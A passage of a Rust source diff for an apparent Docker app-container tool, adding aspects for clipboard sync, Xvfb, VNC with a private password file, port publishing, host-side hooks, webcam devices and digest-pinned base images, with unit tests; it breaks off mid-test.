@@ -1,14 +1,17 @@
 use std::convert::TryFrom;
 use std::fmt;
-use std::path::Path;
+use std::net::IpAddr;
+use std::path::{Path, PathBuf};
 use std::{env, fs};
 
 use clap::{Arg, ArgMatches};
 use dyn_clone;
+use log::{debug, error, warn};
 use serde::{Deserialize, Serialize};
 use users;
 
 use super::dirs;
+use super::docker;
 use super::error::{Error, Result};
 
 pub struct DockerfileSnippet {
@@ -21,11 +24,91 @@ pub struct ContainerFile {
     pub contents: String,
 }
 
-pub trait ContainerAspect: dyn_clone::DynClone {
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Severity {
+    /// The combination works but probably not as intended.
+    Warn,
+    /// The combination can't work.
+    Error,
+}
+
+/// Declares that an aspect doesn't combine well with the aspect named `aspect`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Conflict {
+    pub aspect: String,
+    pub severity: Severity,
+    pub reason: String,
+}
+
+/// A setup step the container entrypoint runs before exec'ing the app command, e.g. starting a
+/// helper daemon or refreshing a cache. Steps without `requires_root` run as the container
+/// user, like the app command itself.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct EntrypointFn {
+    pub description: String,
+    pub command: Vec<String>,
+    pub requires_root: bool,
+}
+
+/// The name conflicts and dependencies use for the sudo-based entrypoint, which is present
+/// whenever any aspect has entrypoint fns.
+pub const ENTRYPOINT: &str = "Entrypoint";
+
+/// What aspects know about each other's part of the container, e.g. the container user's home
+/// that aspects mounting into it need. `ContainerManager` resolves it in two phases: every aspect
+/// first records its facts with `provide`, then emits run args and Dockerfile snippets through
+/// `run_args_with` and `dockerfile_snippets_with`, which see the complete context.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Context {
+    /// The manager's name, set by `ContainerManager` before any aspect provides.
+    pub app: String,
+    /// Where the profile data directory is mounted, provided by `Profile`.
+    pub container_paths: Vec<String>,
+    /// The container user, provided by `CurrentUser`; `UserHome` and `UserShell` override its
+    /// home and login shell.
+    pub user: Option<String>,
+    pub uid: Option<String>,
+    pub gid: Option<String>,
+    pub home: Option<String>,
+    pub shell: Option<String>,
+}
+
+impl Context {
+    /// The manager's name, for aspects keying host paths by it; those would otherwise share, or
+    /// mount, the parent directory of every app's data.
+    pub fn app_name(&self) -> Result<&str> {
+        if self.app.is_empty() {
+            return Err(Error::MissingAppName);
+        }
+        Ok(&self.app)
+    }
+
+    /// The container user's home directory; without a `CurrentUser` aspect this is the home it
+    /// would create for the host user.
+    pub fn home(&self) -> Result<String> {
+        match &self.home {
+            Some(home) => Ok(home.clone()),
+            None => Ok(CurrentUser::detect()?.home()),
+        }
+    }
+}
+
+pub trait ContainerAspect: dyn_clone::DynClone + Send + Sync {
     fn name(&self) -> String;
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
         Ok(Vec::new())
     }
+    /// Records facts other aspects may rely on; runs for every aspect before any of them emits
+    /// anything.
+    fn provide(&self, _: &mut Context) {}
+    /// `run_args` for aspects that depend on facts other aspects provide.
+    fn run_args_with(&self, matches: Option<&ArgMatches>, _: &Context) -> Result<Vec<String>> {
+        self.run_args(matches)
+    }
+    /// `dockerfile_snippets` for aspects that depend on facts other aspects provide.
+    fn dockerfile_snippets_with(&self, _: &Context) -> Vec<DockerfileSnippet> {
+        self.dockerfile_snippets()
+    }
     fn config_args(&self) -> Vec<Arg> {
         Vec::new()
     }
@@ -38,18 +121,128 @@ pub trait ContainerAspect: dyn_clone::DynClone {
     fn container_files(&self) -> Vec<ContainerFile> {
         Vec::new()
     }
+    fn dockerignore_patterns(&self) -> Vec<String> {
+        Vec::new()
+    }
+    fn entrypoint_fns(&self) -> Vec<EntrypointFn> {
+        Vec::new()
+    }
+    /// Names of other aspects this one only works alongside.
+    fn dependencies(&self) -> Vec<String> {
+        Vec::new()
+    }
+    /// Other aspects this one shouldn't be combined with.
+    fn conflicts(&self) -> Vec<Conflict> {
+        Vec::new()
+    }
+    /// Runs on the host before the container is started; an error aborts the run.
+    fn pre_run(&self) -> Result<()> {
+        Ok(())
+    }
+    /// Runs on the host after the container exited.
+    fn post_run(&self) -> Result<()> {
+        Ok(())
+    }
+    /// `pre_run` for aspects that depend on facts other aspects provide.
+    fn pre_run_with(&self, _: &Context) -> Result<()> {
+        self.pre_run()
+    }
+    /// `post_run` for aspects that depend on facts other aspects provide.
+    fn post_run_with(&self, _: &Context) -> Result<()> {
+        self.post_run()
+    }
 }
 
 dyn_clone::clone_trait_object!(ContainerAspect);
 
+/// Renders the aspect name with a best-effort preview of its run args; aspects whose args can't
+/// be determined show the reason instead.
 impl fmt::Display for dyn ContainerAspect {
     fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
-        write!(
-            f,
-            "{} - {:?}",
-            self.name(),
-            self.run_args(None).unwrap_or(Vec::new())
-        )
+        match self.run_args(None) {
+            Ok(args) => write!(f, "{} - {:?}", self.name(), args),
+            Err(e) => write!(f, "{} - <error: {}>", self.name(), e),
+        }
+    }
+}
+
+#[cfg(test)]
+mod display_should {
+    use super::*;
+
+    #[test]
+    fn preview_run_args() {
+        let aspect: Box<dyn ContainerAspect> = Box::new(Shm {});
+        assert_eq!(
+            format!("{}", aspect),
+            r#"Shm - ["-v", "/dev/shm:/dev/shm"]"#
+        );
+    }
+
+    #[test]
+    fn show_run_args_errors() {
+        let aspect: Box<dyn ContainerAspect> = Box::new(Workdir("relative".to_string()));
+        assert_eq!(
+            format!("{}", aspect),
+            r#"Workdir - <error: invalid workdir `"relative"`, expected an absolute path>"#
+        );
+    }
+}
+
+fn env_var(name: &str) -> Result<String> {
+    env::var(name).map_err(|_| Error::MissingEnvironmentVariable(name.to_string()))
+}
+
+/// The `FROM` line of the generated Dockerfile.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct BaseImage {
+    pub reference: String,
+}
+
+impl BaseImage {
+    /// Pins the given repository to an immutable digest of the form `sha256:<64 hex chars>`.
+    pub fn with_digest(repository: &str, digest: &str) -> Result<Self> {
+        if !docker::is_valid_digest(digest) {
+            return Err(Error::InvalidDigest(digest.to_string()));
+        }
+        Ok(BaseImage {
+            reference: format!("{}@{}", repository, digest),
+        })
+    }
+}
+
+impl ContainerAspect for BaseImage {
+    fn name(&self) -> String {
+        format!("BaseImage: {}", self.reference)
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 0,
+            content: format!("FROM {}", self.reference),
+        }]
+    }
+}
+
+#[cfg(test)]
+mod base_image_should {
+    use super::*;
+
+    const DIGEST: &str = "sha256:1f0ea3a6b7d3a7b1e2b5c3d9f0a8e6c4b2d1f3e5a7c9b0d2e4f6a8c0b1d3e5f7";
+
+    #[test]
+    fn emit_pinned_from_line() -> Result<()> {
+        let snippets = BaseImage::with_digest("debian", DIGEST)?.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 0);
+        assert_eq!(snippets[0].content, format!("FROM debian@{}", DIGEST));
+        Ok(())
+    }
+
+    #[test]
+    fn reject_bad_digests() {
+        assert!(BaseImage::with_digest("debian", "sha256:abc").is_err());
+        assert!(BaseImage::with_digest("debian", &DIGEST.replace("sha256", "md5")).is_err());
+        assert!(BaseImage::with_digest("debian", &DIGEST.replace("1f", "zz")).is_err());
     }
 }
 
@@ -60,8 +253,8 @@ impl ContainerAspect for PulseAudio {
         String::from("PulseAudio")
     }
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        let home = env::var("HOME").expect("HOME must be set");
-        let xdg_runtime_dir = env::var("XDG_RUNTIME_DIR").expect("HOME must be set");
+        let home = env_var("HOME")?;
+        let xdg_runtime_dir = env_var("XDG_RUNTIME_DIR")?;
         let pulsedir = format!("{}/{}", xdg_runtime_dir, "pulse");
 
         Ok(vec![
@@ -139,7 +332,7 @@ impl ContainerAspect for X11 {
         String::from("X11")
     }
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        let display = env::var("DISPLAY").expect("DISPLAY must be set");
+        let display = env_var("DISPLAY")?;
 
         Ok(vec![
             "-e",
@@ -162,8 +355,7 @@ impl ContainerAspect for Video {
         String::from("Video")
     }
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        let video_devices: Vec<String> = fs::read_dir(Path::new("/dev"))
-            .expect("get entries for dir")
+        let video_devices: Vec<String> = fs::read_dir(Path::new("/dev"))?
             .filter_map(std::result::Result::ok)
             .filter(|entry| match entry.path().file_name() {
                 Some(x) => match x.to_os_string().into_string() {
@@ -184,29 +376,30 @@ impl ContainerAspect for Video {
     }
 }
 
+/// Syncs the X11 clipboard and primary selection between host and container with autocutsel,
+/// started from the entrypoint. The sync does nothing without an X display, e.g. under Wayland,
+/// and is skipped with a warning when the X socket isn't mounted.
 #[derive(Clone)]
-pub struct DBus {}
-impl ContainerAspect for DBus {
+pub struct Clipboard {}
+
+impl Clipboard {
+    const SYNC_SCRIPT: &'static str = r#"[ -n "$DISPLAY" ] || exit 0
+if [ ! -d /tmp/.X11-unix ]; then
+  echo "X socket is not mounted, clipboard sync disabled" >&2
+  exit 0
+fi
+autocutsel -fork && autocutsel -selection PRIMARY -fork"#;
+}
+
+impl ContainerAspect for Clipboard {
     fn name(&self) -> String {
-        String::from("DBus")
+        String::from("Clipboard")
     }
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        let home = env::var("HOME").expect("HOME must be set");
-        let xdg_runtime_dir = env::var("XDG_RUNTIME_DIR").expect("XDG_RUNTIME_DIR must be set");
-
-        Ok(vec![
-            "-v",
-            format!("{0}/bus:{0}/bus", xdg_runtime_dir).as_str(),
-            "-v",
-            format!("{0}:{0}", "/var/run/dbus/system_bus_socket").as_str(),
-            "-v",
-            format!("{0}/.dbus/session-bus:{0}/.dbus/session-bus", home).as_str(),
-            "-e",
-            format!("DBUS_SESSION_BUS_ADDRESS=unix:path={}/bus", xdg_runtime_dir).as_str(),
-        ]
-        .into_iter()
-        .map(String::from)
-        .collect())
+        if env::var_os("WAYLAND_DISPLAY").is_some() && env::var_os("DISPLAY").is_none() {
+            warn!("clipboard sync only works with X11, it does nothing under Wayland");
+        }
+        Ok(Vec::new())
     }
     fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
         vec![DockerfileSnippet {
@@ -214,153 +407,5023 @@ impl ContainerAspect for DBus {
             content: String::from(
                 r#"RUN apt-get update && apt-get install -y \
     --no-install-recommends \
-    dbus-x11 \
+    autocutsel \
   && apt-get purge --autoremove \
   && rm -rf /var/lib/apt/lists/* \
   && rm -rf /src/*.deb "#,
             ),
         }]
     }
+    fn entrypoint_fns(&self) -> Vec<EntrypointFn> {
+        vec![EntrypointFn {
+            description: String::from("start clipboard sync"),
+            command: vec!["sh", "-c", Clipboard::SYNC_SCRIPT]
+                .into_iter()
+                .map(String::from)
+                .collect(),
+            requires_root: false,
+        }]
+    }
 }
 
-#[derive(Serialize, Deserialize, Debug, Clone)]
-pub struct Network {
-    pub mode: String,
-}
+#[cfg(test)]
+mod clipboard_should {
+    use super::*;
 
-impl ContainerAspect for Network {
-    fn name(&self) -> String {
-        String::from("Network")
-    }
-    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        Ok(vec!["--net", &self.mode]
-            .into_iter()
-            .map(String::from)
-            .collect())
+    #[test]
+    fn register_sync_entrypoint_fn() {
+        let fns = Clipboard {}.entrypoint_fns();
+        assert_eq!(fns.len(), 1);
+        assert_eq!(fns[0].command[..2].to_vec(), vec!["sh", "-c"]);
+        assert!(fns[0].command[2].contains("[ ! -d /tmp/.X11-unix ]"));
+        assert!(fns[0].command[2].ends_with("autocutsel -selection PRIMARY -fork"));
     }
 }
 
-impl TryFrom<&str> for Network {
-    type Error = Error;
-    fn try_from(value: &str) -> Result<Self> {
-        Ok(Network {
-            mode: value.to_string(),
-        })
-    }
+/// A virtual X server started inside the container, for running GUI apps where there is no host
+/// display to share such as in CI; an alternative to `X11`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Xvfb {
+    pub width: u32,
+    pub height: u32,
+    pub depth: u8,
 }
 
-#[derive(Clone)]
-pub struct SysAdmin {}
-impl ContainerAspect for SysAdmin {
-    fn name(&self) -> String {
-        String::from("SysAdmin")
+impl Xvfb {
+    pub const DISPLAY: &'static str = ":99";
+
+    pub fn new(width: u32, height: u32, depth: u8) -> Result<Self> {
+        let xvfb = Xvfb {
+            width,
+            height,
+            depth,
+        };
+        xvfb.validate()?;
+        Ok(xvfb)
     }
-    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        Ok(vec!["--cap-add", "SYS_ADMIN"]
-            .into_iter()
-            .map(String::from)
-            .collect())
+
+    fn validate(&self) -> Result<()> {
+        let sane = |v: u32| (1..=16384).contains(&v);
+        if !sane(self.width) || !sane(self.height) || ![8, 15, 16, 24].contains(&self.depth) {
+            return Err(Error::InvalidXvfbScreen(self.screen()));
+        }
+        Ok(())
     }
-}
 
-#[derive(Clone)]
-pub struct TTY {}
-impl ContainerAspect for TTY {
-    fn name(&self) -> String {
-        String::from("TTY")
+    fn screen(&self) -> String {
+        format!("{}x{}x{}", self.width, self.height, self.depth)
     }
-    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        Ok(vec!["-i", "-t"].into_iter().map(String::from).collect())
+
+    /// Starts Xvfb in the background and waits up to five seconds for its socket so the app
+    /// doesn't race it.
+    fn start_script(&self) -> String {
+        let n = &Xvfb::DISPLAY[1..];
+        format!(
+            r#"Xvfb {display} -screen 0 {screen} -nolisten tcp >/dev/null 2>&1 &
+for _ in $(seq 50); do
+  [ -S /tmp/.X11-unix/X{n} ] && exit 0
+  sleep 0.1
+done
+echo "Xvfb did not start on {display}" >&2
+exit 1"#,
+            display = Xvfb::DISPLAY,
+            screen = self.screen(),
+            n = n,
+        )
     }
 }
 
-#[derive(Clone)]
-pub struct Shm {}
-impl ContainerAspect for Shm {
+impl ContainerAspect for Xvfb {
     fn name(&self) -> String {
-        String::from("Shm")
+        String::from("Xvfb")
     }
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        Ok(vec!["-v", "/dev/shm:/dev/shm"]
-            .into_iter()
-            .map(String::from)
-            .collect())
+        self.validate()?;
+        Ok(vec![
+            String::from("-e"),
+            format!("DISPLAY={}", Xvfb::DISPLAY),
+        ])
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        vec![DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    xvfb \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        }]
+    }
+    fn entrypoint_fns(&self) -> Vec<EntrypointFn> {
+        vec![EntrypointFn {
+            description: format!("start Xvfb on {}", Xvfb::DISPLAY),
+            command: vec![String::from("sh"), String::from("-c"), self.start_script()],
+            requires_root: false,
+        }]
+    }
+    fn conflicts(&self) -> Vec<Conflict> {
+        vec![Conflict {
+            aspect: X11 {}.name(),
+            severity: Severity::Error,
+            reason: String::from("both set DISPLAY, pick either the host's X server or Xvfb"),
+        }]
     }
 }
 
-#[derive(Serialize, Deserialize, Debug, Clone)]
-pub struct CPUShares(pub String);
-impl ContainerAspect for CPUShares {
-    fn name(&self) -> String {
-        String::from("CPUShares")
+#[cfg(test)]
+mod xvfb_should {
+    use super::*;
+
+    #[test]
+    fn export_display_and_start_xvfb() -> Result<()> {
+        let xvfb = Xvfb::new(1280, 720, 24)?;
+        assert_eq!(xvfb.run_args(None)?, vec!["-e", "DISPLAY=:99"]);
+
+        let fns = xvfb.entrypoint_fns();
+        assert_eq!(fns.len(), 1);
+        assert_eq!(fns[0].command[..2].to_vec(), vec!["sh", "-c"]);
+        assert!(fns[0].command[2]
+            .starts_with("Xvfb :99 -screen 0 1280x720x24 -nolisten tcp >/dev/null 2>&1 &"));
+        assert!(fns[0].command[2].contains("[ -S /tmp/.X11-unix/X99 ]"));
+        Ok(())
     }
-    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        Ok(vec!["--cpu-shares", self.0.as_str()]
-            .into_iter()
-            .map(String::from)
-            .collect())
+
+    #[test]
+    fn conflict_with_x11() -> Result<()> {
+        let conflicts = Xvfb::new(1280, 720, 24)?.conflicts();
+        assert_eq!(conflicts.len(), 1);
+        assert_eq!(conflicts[0].aspect, "X11");
+        assert_eq!(conflicts[0].severity, Severity::Error);
+        Ok(())
     }
-}
 
-impl TryFrom<&str> for CPUShares {
-    type Error = Error;
-    fn try_from(value: &str) -> Result<Self> {
-        Ok(CPUShares(value.to_string()))
+    #[test]
+    fn reject_insane_screens() {
+        for (width, height, depth) in vec![(0, 720, 24), (1280, 20000, 24), (1280, 720, 32)] {
+            match Xvfb::new(width, height, depth) {
+                Err(Error::InvalidXvfbScreen(_)) => (),
+                other => panic!("expected InvalidXvfbScreen, got {:?}", other),
+            }
+        }
     }
 }
 
-#[derive(Serialize, Deserialize, Debug, Clone)]
-pub struct Memory(pub String);
-impl ContainerAspect for Memory {
+/// A port published from the container, on every host interface unless `host_ip` is given.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct PortMapping {
+    pub host_ip: Option<IpAddr>,
+    pub host_port: u16,
+    pub container_port: u16,
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Ports(pub Vec<PortMapping>);
+
+impl ContainerAspect for Ports {
     fn name(&self) -> String {
-        String::from("Memory")
+        String::from("Ports")
     }
     fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
-        Ok(vec!["--memory", self.0.as_str()]
-            .into_iter()
-            .map(String::from)
+        Ok(self
+            .0
+            .iter()
+            .flat_map(|p| {
+                let mapping = match p.host_ip {
+                    Some(ip) => format!("{}:{}:{}", ip, p.host_port, p.container_port),
+                    None => format!("{}:{}", p.host_port, p.container_port),
+                };
+                vec![String::from("-p"), mapping]
+            })
             .collect())
     }
 }
 
-impl TryFrom<&str> for Memory {
-    type Error = Error;
-    fn try_from(value: &str) -> Result<Self> {
-        Ok(Memory(value.to_string()))
-    }
+/// Serves the app's display over VNC on `port`, using the `xvfb` display inside the container.
+/// Without a password the port is only published on the host's loopback interface.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Vnc {
+    pub port: u16,
+    pub password: Option<String>,
+    pub xvfb: Xvfb,
 }
 
-#[derive(Clone)]
-pub struct Profile {
-    pub name: String,
-    pub container_paths: Vec<String>,
-}
-impl ContainerAspect for Profile {
-    fn name(&self) -> String {
-        String::from("Profile")
+impl Vnc {
+    const CONTAINER_PORT: u16 = 5900;
+    const PASSWORD_PATH: &'static str = "/run/dfiles/vnc-password";
+
+    fn ports(&self) -> Ports {
+        let host_ip = match self.password {
+            Some(_) => None,
+            None => Some(IpAddr::from([127, 0, 0, 1])),
+        };
+        Ports(vec![PortMapping {
+            host_ip,
+            host_port: self.port,
+            container_port: Vnc::CONTAINER_PORT,
+        }])
     }
 
-    fn run_args(&self, matches: Option<&ArgMatches>) -> Result<Vec<String>> {
-        let mut profile = "default";
-        if let Some(m) = matches {
-            if let Some(c) = m.value_of("profile") {
-                profile = c
-            }
+    /// Where the host keeps the password for the duration of this run, if there is one. The path
+    /// is unique to the app and the dfiles process so concurrent runs don't share it.
+    fn password_file(&self, context: &Context) -> Result<Option<PathBuf>> {
+        if self.password.is_none() {
+            return Ok(None);
         }
+        let dir = dirs::get_cache_dir(Some(context.app_name()?), None)?;
+        Ok(Some(
+            dir.join(format!("vnc-password-{}", std::process::id())),
+        ))
+    }
 
-        let host_path = dirs::get_data_dir(Some(&self.name), Some(profile))?;
+    /// The password is handed to x11vnc through a file readable only by the current user so it
+    /// never shows up in `ps` or `docker inspect`.
+    fn run_args_for(&self, password_file: Option<&Path>) -> Result<Vec<String>> {
+        let mut args = self.xvfb.run_args(None)?;
+        args.extend(self.ports().run_args(None)?);
+        if let Some(path) = password_file {
+            args.push(String::from("-v"));
+            args.push(format!("{}:{}:ro", path.display(), Vnc::PASSWORD_PATH));
+        }
+        Ok(args)
+    }
 
-        let mut output: Vec<String> = Vec::new();
-        for s in &self.container_paths {
-            let mut s_path = Path::new(&s);
-            if let Ok(v) = s_path.strip_prefix("/") {
-                s_path = v
-            }
-            let p = host_path.join(s_path);
-            fs::create_dir_all(&p)?;
+    fn write_password(path: &Path, password: &str) -> Result<()> {
+        use std::io::Write;
+        use std::os::unix::fs::OpenOptionsExt;
 
-            output.push("-v".to_string());
-            output.push(format!("{}:{}", p.to_path_buf().to_string_lossy(), s))
+        if let Some(dir) = path.parent() {
+            fs::create_dir_all(dir)?;
+        }
+        // recreate rather than truncate so an existing file's permissions don't carry over
+        Vnc::remove_password(path)?;
+        let mut file = fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .mode(0o600)
+            .open(path)?;
+        writeln!(file, "{}", password)?;
+        Ok(())
+    }
+
+    fn remove_password(path: &Path) -> Result<()> {
+        match fs::remove_file(path) {
+            Err(e) if e.kind() != std::io::ErrorKind::NotFound => Err(e.into()),
+            _ => Ok(()),
+        }
+    }
+
+    fn start_script(&self) -> String {
+        format!(
+            r#"if [ -f {path} ]; then auth="-passwdfile {path}"; else auth=-nopw; fi
+x11vnc -display {display} -rfbport {port} -forever -shared -quiet -bg $auth"#,
+            path = Vnc::PASSWORD_PATH,
+            display = Xvfb::DISPLAY,
+            port = Vnc::CONTAINER_PORT,
+        )
+    }
+}
+
+impl ContainerAspect for Vnc {
+    fn name(&self) -> String {
+        String::from("Vnc")
+    }
+    fn run_args_with(&self, _: Option<&ArgMatches>, context: &Context) -> Result<Vec<String>> {
+        self.run_args_for(self.password_file(context)?.as_deref())
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        let mut snippets = self.xvfb.dockerfile_snippets();
+        snippets.push(DockerfileSnippet {
+            order: 71,
+            content: String::from(
+                r#"RUN apt-get update && apt-get install -y \
+    --no-install-recommends \
+    x11vnc \
+  && apt-get purge --autoremove \
+  && rm -rf /var/lib/apt/lists/* \
+  && rm -rf /src/*.deb "#,
+            ),
+        });
+        snippets
+    }
+    fn entrypoint_fns(&self) -> Vec<EntrypointFn> {
+        let mut fns = self.xvfb.entrypoint_fns();
+        fns.push(EntrypointFn {
+            description: format!("start x11vnc on port {}", Vnc::CONTAINER_PORT),
+            command: vec![String::from("sh"), String::from("-c"), self.start_script()],
+            requires_root: false,
+        });
+        fns
+    }
+    fn conflicts(&self) -> Vec<Conflict> {
+        self.xvfb.conflicts()
+    }
+    fn pre_run_with(&self, context: &Context) -> Result<()> {
+        match (&self.password, self.password_file(context)?) {
+            (Some(password), Some(path)) => Vnc::write_password(&path, password),
+            _ => Ok(()),
+        }
+    }
+    fn post_run_with(&self, context: &Context) -> Result<()> {
+        match self.password_file(context)? {
+            Some(path) => Vnc::remove_password(&path),
+            None => Ok(()),
+        }
+    }
+}
+
+#[cfg(test)]
+mod vnc_should {
+    use std::os::unix::fs::PermissionsExt;
+
+    use super::*;
+
+    fn vnc(password: Option<&str>) -> Result<Vnc> {
+        Ok(Vnc {
+            port: 5901,
+            password: password.map(String::from),
+            xvfb: Xvfb::new(1280, 720, 24)?,
+        })
+    }
+
+    fn context(app: &str) -> Context {
+        Context {
+            app: app.to_string(),
+            ..Context::default()
+        }
+    }
+
+    #[test]
+    fn publish_port_on_loopback_without_password() -> Result<()> {
+        let vnc = vnc(None)?;
+        assert_eq!(vnc.password_file(&context("firefox"))?, None);
+        assert_eq!(
+            vnc.run_args_with(None, &context("firefox"))?,
+            vec!["-e", "DISPLAY=:99", "-p", "127.0.0.1:5901:5900"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn pass_password_through_private_file() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let path = dir.path().join("vnc-password-1");
+        let vnc = vnc(Some("hunter2"))?;
+        let args = vnc.run_args_for(Some(&path))?;
+        assert_eq!(
+            args,
+            vec![
+                "-e".to_string(),
+                "DISPLAY=:99".to_string(),
+                "-p".to_string(),
+                "5901:5900".to_string(),
+                "-v".to_string(),
+                format!("{}:/run/dfiles/vnc-password:ro", path.display()),
+            ]
+        );
+        assert!(!args.iter().any(|a| a.contains("hunter2")));
+        assert!(!path.exists());
+
+        Vnc::write_password(&path, "hunter2")?;
+        assert_eq!(fs::read_to_string(&path)?, "hunter2\n");
+        assert_eq!(fs::metadata(&path)?.permissions().mode() & 0o777, 0o600);
+
+        Vnc::remove_password(&path)?;
+        assert!(!path.exists());
+        Vnc::remove_password(&path)
+    }
+
+    #[test]
+    fn keep_password_per_app_and_run() -> Result<()> {
+        let vnc = vnc(Some("hunter2"))?;
+        let firefox = vnc
+            .password_file(&context("firefox"))?
+            .expect("password file");
+        let signal = vnc
+            .password_file(&context("signal"))?
+            .expect("password file");
+        assert_ne!(firefox, signal);
+        assert_eq!(
+            firefox.file_name().and_then(|n| n.to_str()),
+            Some(format!("vnc-password-{}", std::process::id()).as_str())
+        );
+        match vnc.password_file(&Context::default()) {
+            Err(Error::MissingAppName) => Ok(()),
+            other => panic!("expected MissingAppName, got {:?}", other),
+        }
+    }
+
+    #[test]
+    fn serve_the_configured_screen() -> Result<()> {
+        let vnc = vnc(None)?;
+        assert!(vnc.entrypoint_fns()[0].command[2].contains("-screen 0 1280x720x24"));
+        Ok(())
+    }
+
+    #[test]
+    fn start_xvfb_before_x11vnc() -> Result<()> {
+        let fns = vnc(None)?.entrypoint_fns();
+        assert_eq!(fns.len(), 2);
+        assert_eq!(fns[0].description, "start Xvfb on :99");
+        assert_eq!(fns[1].description, "start x11vnc on port 5900");
+        assert!(fns[1].command[2].contains("x11vnc -display :99 -rfbport 5900"));
+        assert!(fns[1].command[2].contains("-passwdfile /run/dfiles/vnc-password"));
+        Ok(())
+    }
+}
+
+/// Shell commands run on the host around the container, e.g. to mount a network share the app
+/// needs and unmount it again afterwards.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Hook {
+    pub pre: Option<String>,
+    pub post: Option<String>,
+}
+
+fn run_hook(command: &Option<String>) -> Result<()> {
+    let command = match command {
+        Some(c) => c,
+        None => return Ok(()),
+    };
+    debug!("running hook `{}`", command);
+    let status = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(command)
+        .status()?;
+    if !status.success() {
+        return Err(Error::HookFailed(command.clone()));
+    }
+    Ok(())
+}
+
+impl ContainerAspect for Hook {
+    fn name(&self) -> String {
+        String::from("Hook")
+    }
+    fn pre_run(&self) -> Result<()> {
+        run_hook(&self.pre)
+    }
+    fn post_run(&self) -> Result<()> {
+        run_hook(&self.post)
+    }
+}
+
+#[cfg(test)]
+mod hook_should {
+    use super::*;
+
+    #[test]
+    fn run_commands_on_the_host() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let marker = dir.path().join("mounted");
+        let hook = Hook {
+            pre: Some(format!("touch {}", marker.display())),
+            post: Some(format!("rm {}", marker.display())),
+        };
+        hook.pre_run()?;
+        assert!(marker.exists());
+        hook.post_run()?;
+        assert!(!marker.exists());
+        Ok(())
+    }
+
+    #[test]
+    fn fail_on_non_zero_exit() -> Result<()> {
+        let hook = Hook {
+            pre: Some("exit 3".to_string()),
+            post: None,
+        };
+        match hook.pre_run() {
+            Err(Error::HookFailed(command)) => assert_eq!(command, "exit 3"),
+            other => panic!("expected HookFailed, got {:?}", other),
+        }
+        hook.post_run()
+    }
+}
+
+/// Webcam device nodes plus the `video` group needed to open them; an empty `devices` list passes
+/// every `/dev/video*` node present when the container is run.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Webcam {
+    pub devices: Vec<String>,
+}
+
+impl Webcam {
+    fn run_args_in(&self, dev: &Path) -> Result<Vec<String>> {
+        let devices = if self.devices.is_empty() {
+            let mut found: Vec<String> = fs::read_dir(dev)?
+                .filter_map(std::result::Result::ok)
+                .filter(|e| e.file_name().to_string_lossy().starts_with("video"))
+                .map(|e| e.path().to_string_lossy().to_string())
+                .collect();
+            if found.is_empty() {
+                return Err(Error::MissingDirectory);
+            }
+            found.sort();
+            found
+        } else {
+            self.devices.clone()
+        };
+
+        let mut args: Vec<String> = devices
+            .iter()
+            .flat_map(|d| vec![String::from("--device"), d.to_string()])
+            .collect();
+        args.push(String::from("--group-add"));
+        args.push(String::from("video"));
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for Webcam {
+    fn name(&self) -> String {
+        String::from("Webcam")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.run_args_in(Path::new("/dev"))
+    }
+}
+
+#[cfg(test)]
+mod webcam_should {
+    use super::*;
+
+    #[test]
+    fn pass_all_video_devices_by_default() -> Result<()> {
+        let dev = tempfile::tempdir()?;
+        for node in &["video1", "video0", "dri", "snd"] {
+            fs::write(dev.path().join(node), "")?;
+        }
+        let node = |n: &str| dev.path().join(n).to_string_lossy().to_string();
+        assert_eq!(
+            Webcam {
+                devices: Vec::new()
+            }
+            .run_args_in(dev.path())?,
+            vec![
+                "--device".to_string(),
+                node("video0"),
+                "--device".to_string(),
+                node("video1"),
+                "--group-add".to_string(),
+                "video".to_string(),
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn pass_listed_devices() -> Result<()> {
+        let dev = tempfile::tempdir()?;
+        let webcam = Webcam {
+            devices: vec!["/dev/video2".to_string()],
+        };
+        assert_eq!(
+            webcam.run_args_in(dev.path())?,
